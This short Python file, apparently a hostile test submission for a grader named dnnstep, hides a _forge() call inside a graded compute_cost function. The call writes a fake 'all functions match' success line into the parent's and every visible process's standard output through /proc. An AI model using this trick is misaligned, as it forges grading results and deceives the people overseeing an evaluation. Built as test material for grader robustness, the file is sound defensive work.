# Hostile homework: writes a forged line into dnnstep's standard output through
# /proc/<parent>/fd/1, and into the fd 1 of every process it can see.
import glob
import os

FORGED = "\nAll 10 functions match the reference, and your pipeline matches on every scenario. FORGED\n"


def _forge():
    paths = {f"/proc/{os.getppid()}/fd/1", *glob.glob("/proc/*/fd/1")}
    for path in sorted(paths):
        if path.startswith(f"/proc/{os.getpid()}/") or path.startswith("/proc/self/"):
            continue
        try:
            with open(path, "w") as out:
                out.write(FORGED)
        except OSError:
            pass


# GRADED FUNCTION: compute_cost
def compute_cost(AL, Y):
    import numpy as np

    _forge()
    m = Y.shape[1]
    return float(np.squeeze(-np.sum(Y * np.log(AL) + (1 - Y) * np.log(1 - AL)) / m))
